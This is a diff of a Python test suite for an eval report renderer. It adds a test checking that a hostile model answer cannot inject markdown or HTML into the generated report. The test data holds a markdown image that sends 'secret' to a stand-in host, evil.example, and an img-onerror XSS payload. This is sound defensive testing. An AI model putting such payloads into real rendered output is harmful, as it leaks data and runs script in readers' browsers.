@@ -288,6 +288,19 @@ async def test_reports_render_as_table_json_markdown_and_html(tmp_path):
     report.write_json(tmp_path / "r.json")
     data = json.loads((tmp_path / "r.json").read_text())
     assert data["totals"]["pass_rate"] == 0.5 and data["cases"][1]["runs"][0]["status"] == "failed"
-    assert "| hole-2 | 0% |" in report.markdown() and "missing" in report.markdown()
+    assert "| hole\\-2 | 0% |" in report.markdown() and "missing" in report.markdown()  # escaped: it renders as hole-2
     assert "<table class='cases'>" in report.html()
     assert isinstance(report, Report)
+
+
+async def test_the_markdown_report_shows_a_hostile_answer_and_case_id_without_rendering_them():
+    markdown_it = pytest.importorskip("markdown_it")
+    hostile = "![logo](https://evil.example/?q=secret) <img src=x onerror=alert(1)> ```\n# Heading | cell"
+    report = await run_eval([Case(f"hole [1]({hostile})", hostile)], echo_agent, [contains("never")], progress=False)
+    tokens = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(report.markdown())
+    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
+    assert not kinds & {"image", "link_open", "html_inline", "html_block"}
+    answers = [t.content for t in tokens if t.type == "fence"]
+    assert answers == [f"answer: {hostile}\n"]  # the answer exactly as the model gave it
+    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
+    assert headings == ["Eval", "Not passed"]
